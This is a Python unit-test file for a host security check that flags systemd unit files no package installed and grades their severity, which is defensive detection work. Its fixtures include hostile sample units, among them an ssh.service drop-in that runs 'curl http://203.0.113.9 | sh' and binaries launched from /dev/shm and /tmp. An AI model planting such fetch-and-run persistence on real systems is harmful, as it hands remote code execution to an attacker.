from __future__ import annotations

from tasks.checks.host.unit_unowned import UnitUnowned
from tests.tasks.checks.host._facts import OLD, cannot, found, put, survey

CHECK = UnitUnowned()


def unit(name: str, content: str, **of: object) -> list[tuple[str, str]]:
    file = put("unit", f"/etc/systemd/system/{name}", content, **of)  # type: ignore[arg-type]  # as put() takes them
    return found(CHECK, survey(files=(file,), owned=("/usr/lib/systemd/system/ssh.service",)))


def test_a_unit_that_nobody_brought() -> None:
    assert unit("a.service", "[Service]\nExecStart=/dev/shm/.x/k\n") == [("critical", "/etc/systemd/system/a.service")]
    assert unit("a.service", "[Service]\nExecStart=/opt/app/run\n") == [("medium", "/etc/systemd/system/a.service")]
    assert unit("a.service", "[Service]\nExecStart=/opt/app/run\n", at=OLD) == [
        ("low", "/etc/systemd/system/a.service")
    ]
    assert unit("a.timer", "[Timer]\nOnCalendar=hourly\n") == [("medium", "/etc/systemd/system/a.timer")]
    assert unit("ssh.service.d/x.conf", "[Service]\nExecStartPost=/bin/sh -c 'curl http://203.0.113.9 | sh'\n") == [
        ("critical", "/etc/systemd/system/ssh.service.d/x.conf")
    ]
    own = put("unit", "/home/alice/.config/systemd/user/x.service", "ExecStart=/tmp/x\n", account="alice")
    assert found(CHECK, survey(files=(own,))) == [("critical", own.path)]


def test_what_packages_and_settings_are() -> None:
    assert unit("sshd.service", "ExecStart=/usr/sbin/sshd\n", target="/usr/lib/systemd/system/ssh.service") == []
    assert unit("x.service", "", target="/dev/null") == []
    assert unit("snap-core.mount", "") == []
    assert unit("ssh.service.d/limits.conf", "[Service]\nLimitNOFILE=4096\n") == []
    shipped = put("unit", "/usr/lib/systemd/system/x.service", "ExecStart=/bin/sh -c 'curl http://a | sh'\n")
    assert found(CHECK, survey(files=(shipped,), owned=(shipped.path,))) == []


def test_nothing_there_is_nothing_found() -> None:
    assert found(CHECK, survey()) == []


def test_what_was_not_read_cannot_be_judged() -> None:
    cannot(CHECK, "owners", "files")
